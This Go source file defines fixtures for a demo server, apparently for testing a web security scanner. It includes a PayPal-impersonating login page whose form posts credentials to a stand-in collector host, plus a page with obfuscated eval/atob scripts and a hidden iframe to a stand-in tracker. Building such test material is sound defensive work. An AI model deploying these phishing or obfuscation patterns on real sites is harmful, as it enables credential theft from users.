package demoserver

// PageDefinition is one fixture served by the demo server.
type PageDefinition struct {
	Path        string
	Description string
	Status      int
	ContentType string
	Headers     map[string]string
	Body        string
}

// hardened are the response headers a well-configured site sends.
var hardened = map[string]string{
	"Content-Security-Policy":   "default-src 'self'",
	"Strict-Transport-Security": "max-age=31536000; includeSubDomains",
	"X-Frame-Options":           "DENY",
	"X-Content-Type-Options":    "nosniff",
}

// GetAllPages returns every static fixture. Redirect fixtures are handled
// separately because their targets depend on the request.
func GetAllPages() []PageDefinition {
	return []PageDefinition{
		getHomePage(),
		getLoginPage(),
		getObfuscatedPage(),
		getDownloadPage(),
		getErrorPage(),
	}
}

// ===== HOME PAGE =====
func getHomePage() PageDefinition {
	return PageDefinition{
		Path:        "/",
		Description: "Clean page with hardening headers, no forms",
		Headers:     hardened,
		Body: `<!DOCTYPE html>
<html>
<head>
    <title>Example Domain</title>
    <meta charset="utf-8">
</head>
<body>
    <h1>Example Domain</h1>
    <p>This domain is for use in illustrative examples in documents.</p>
    <p><a href="/about">More information</a></p>
    <p><a href="https://www.iana.org/domains/example">IANA</a></p>
</body>
</html>`,
	}
}

// ===== LOGIN PHISH =====
func getLoginPage() PageDefinition {
	return PageDefinition{
		Path:        "/login",
		Description: "Brand-impersonating credential form posting off-site",
		Body: `<!DOCTYPE html>
<html>
<head>
    <title>PayPal - Log In to your account</title>
</head>
<body>
    <img src="https://cdn.paypal-assets.example/logo.png" alt="PayPal">
    <h1>Your account has been suspended</h1>
    <p>We noticed unusual activity. Verify your account immediately to avoid closure.</p>
    <form action="https://collect.evil.example/gate.php" method="post">
        <label>Email or username</label>
        <input type="text" name="user">
        <label>Password</label>
        <input type="password" name="pass">
        <button type="submit">Log In</button>
    </form>
    <footer>
        <a href="https://www.paypal.com/help">Help</a>
        <a href="https://www.paypal.com/privacy">Privacy</a>
        <a href="https://www.paypal.com/legal">Legal</a>
        <a href="https://www.paypal.com/contact">Contact</a>
        <a href="https://www.paypal.com/security">Security</a>
    </footer>
</body>
</html>`,
	}
}

// ===== OBFUSCATED SCRIPT =====
func getObfuscatedPage() PageDefinition {
	return PageDefinition{
		Path:        "/obfuscated",
		Description: "Encoded inline script and a zero-size iframe",
		Body: `<!DOCTYPE html>
<html>
<head>
    <title>Loading...</title>
    <script>eval(unescape('%64%6f%63%75%6d%65%6e%74%2e%77%72%69%74%65'))</script>
    <script>var p = atob('cGF5bG9hZA==');</script>
</head>
<body>
    <p>Please wait while we redirect you.</p>
    <iframe src="https://tracker.evil.example/" width="0" height="0"></iframe>
</body>
</html>`,
	}
}

// ===== NON-HTML =====
func getDownloadPage() PageDefinition {
	return PageDefinition{
		Path:        "/download",
		Description: "JSON document, skipped by content analysis",
		ContentType: "application/json",
		Body:        `{"status":"ok","password":"not html"}`,
	}
}

// ===== SERVER ERROR =====
func getErrorPage() PageDefinition {
	return PageDefinition{
		Path:        "/error",
		Description: "Always answers 500",
		Status:      500,
		Body:        `<html><head><title>Internal Server Error</title></head><body>oops</body></html>`,
	}
}
